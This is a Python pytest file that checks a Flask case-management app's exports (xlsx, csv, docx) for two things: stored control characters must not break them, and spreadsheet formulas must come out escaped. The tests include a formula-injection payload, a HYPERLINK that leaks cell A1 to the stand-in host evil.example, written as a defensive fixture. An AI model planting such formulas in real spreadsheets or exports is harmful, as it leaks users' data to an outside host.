"""Outputs stay safe for data stored before Ketnap refused it: control characters in
names and class names (written straight into the database, as old data would be) do
not break the exports, the .docx forms, the report spreadsheets or the history CSV
for any role that may read them; text a spreadsheet would run comes out as text.
"""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import docx
import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import text
from sqlmodel import col, select

from tests.web.support import TODAY, login
from workflow.documents import forms
from workflow.engine import Engine
from workflow.models import Case, HistoryEvent
from workflow.ops.demo import World

ROLES = ("secretary", "sponsor", "officer", "auditor", "admin")
REPORT_READERS = ("secretary", "officer", "auditor", "admin")
BAD = "\x0b\x1f"


@pytest.fixture
def soiled(engine: Engine) -> Engine:
    """Every person's name, course name and cell name carries \\x0b and \\x1f."""
    with engine.session() as session:
        session.execute(text("UPDATE person SET full_name = full_name || :bad"), {"bad": BAD})
        session.execute(text("UPDATE course SET name = :bad || name || :bad"), {"bad": BAD})
        session.execute(
            text("UPDATE organisation SET name = name || :bad WHERE kind LIKE '%cell%'"),
            {"bad": BAD},
        )
        session.commit()
    return engine


def visible_case(client: FlaskClient) -> int:
    """The furthest-advanced case the client may read (most forms apply to it)."""
    items = client.get("/api/v1/cases?per_page=100").get_json()["items"]
    assert items, "the role sees no case"
    return int(max(items, key=lambda item: item["version"])["id"])


@pytest.mark.parametrize("role", ROLES)
def test_exports_and_forms_answer_despite_control_characters(
    app: Flask, soiled: Engine, role: str
) -> None:
    client = login(app, role)
    with client.get("/export/cases.xlsx") as answer:
        assert answer.status_code == 200
        book = load_workbook(io.BytesIO(answer.data), read_only=True)
        rows = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    names = [row[rows[0].index("Họ và tên")] for row in rows[1:]]  # headed by labels
    assert names and all(isinstance(name, str) and name.strip() for name in names)
    cells = [c for row in rows for c in row if isinstance(c, str)]
    assert not any(ch in c for c in cells for ch in BAD)
    assert client.get("/export/cases.csv").status_code == 200

    case_id = visible_case(client)
    with soiled.session() as session:
        case = session.get(Case, case_id)
        assert case is not None
        links = forms.relevant_for(session, case)
    assert links, "no form applies to the case"
    for link in links:
        query = f"?sponsor={link.sponsor_id}" if link.sponsor_id is not None else ""
        answer = client.get(f"/cases/{case_id}/forms/{link.slug}.docx{query}")
        assert answer.status_code == 200, (link.slug, answer.status_code)
        document = docx.Document(io.BytesIO(answer.data))
        assert document.paragraphs

    answer = client.get(f"/audit/cases/{case_id}/history.csv")
    assert answer.status_code == 200


@pytest.mark.parametrize("role", REPORT_READERS)
def test_report_spreadsheets_answer_despite_control_characters(
    app: Flask, soiled: Engine, role: str
) -> None:
    client = login(app, role)
    for path in ("/api/v1/reports/classes.xlsx", "/api/v1/reports/classes.csv"):
        answer = client.get(path)
        assert answer.status_code == 200, path
    answer = client.get("/api/v1/reports/classes.xlsx")
    book = load_workbook(io.BytesIO(answer.data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                assert not (isinstance(value, str) and any(ch in value for ch in BAD))
    for name in ("pipeline", "villages", "admissions", "breakdown", "confirmations"):
        assert client.get(f"/api/v1/reports/{name}.xlsx").status_code == 200, name


def test_a_formula_in_a_note_comes_out_as_text_in_the_history_csv(
    app: Flask, engine: Engine, world: World
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")'
    with engine.session() as session:
        case = session.exec(
            select(Case).where(Case.state == "nominated").order_by(col(Case.id))
        ).first()
        assert case is not None and case.id is not None
        case_id, version, cell = case.id, case.version, case.cell_id
        last_on = max(
            row.on
            for row in session.exec(select(HistoryEvent).where(HistoryEvent.case_id == case_id))
        )
    on = max(last_on, TODAY - timedelta(days=1))
    engine.advance(
        case_id,
        "withdraw",
        {"reason": "+rút hồ sơ"},
        world.secretary[cell],
        version,
        on=on.isoformat(),
        note=formula,
    )
    answer = login(app, "auditor").get(f"/audit/cases/{case_id}/history.csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    notes = [row for row in rows if "HYPERLINK" in "".join(row.values())]
    assert notes, "the note is not in the CSV"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert any(value == "'" + formula for row in notes for value in row.values())


def test_a_formula_in_a_logged_value_comes_out_as_text_in_the_admin_log_csv(app: Flask) -> None:
    formula = '=HYPERLINK("http://evil.example","Chi bộ")'
    admin = login(app, "admin")
    created = admin.post(
        "/api/v1/organisations", json={"name": formula, "kind": "cell", "parent_id": 2}
    )
    assert created.status_code == 201, created.get_data(as_text=True)
    answer = login(app, "auditor").get("/audit/admin-log.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    values = [value for row in rows for value in row]
    assert "'" + formula in values
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in values)
